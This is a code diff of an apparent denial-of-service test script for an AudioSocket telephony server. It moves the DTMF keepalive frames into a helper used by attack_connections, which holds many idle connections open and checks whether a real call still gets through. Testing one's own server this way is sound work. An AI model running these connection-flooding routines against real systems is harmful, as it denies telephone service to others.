@@ -265,6 +265,15 @@ def attack_slowloris():
         c.close()
 
 
+def dtmf(conns):
+    """One AudioSocket DTMF frame ("5") on each connection still open."""
+    for k in conns:
+        try:
+            k.sendall(struct.pack(">BH", 3, 1) + b"5")
+        except OSError:
+            pass
+
+
 def attack_connections():
     # COUNT AudioSocket connections, each with its own call UUID, kept alive with a DTMF
     # frame every 3 s but never any audio; then a real call tries to get in.
@@ -278,11 +287,7 @@ def attack_connections():
         except OSError:
             break
         if i % 500 == 499:
-            for k in conns:
-                try:
-                    k.sendall(struct.pack(">BH", 3, 1) + b"5")
-                except OSError:
-                    pass
+            dtmf(conns)
     result["connections opened"] = len(conns)
     result["held by server when all were open"] = open_count(asp)
     # Can a real call still get in? UUID, 2 s of audio, hangup.
@@ -303,11 +308,7 @@ def attack_connections():
     result["legit call started"] = any("abababab" in l and "call_started" in l for l in lines)
     for t in range(10):
         time.sleep(3)
-        for k in conns:
-            try:
-                k.sendall(struct.pack(">BH", 3, 1) + b"5")
-            except OSError:
-                pass
+        dtmf(conns)
     result["held by server 30 s later"] = open_count(asp)
     result["calls started"] = sum(1 for l in lines if "call_started" in l)
     for k in conns:
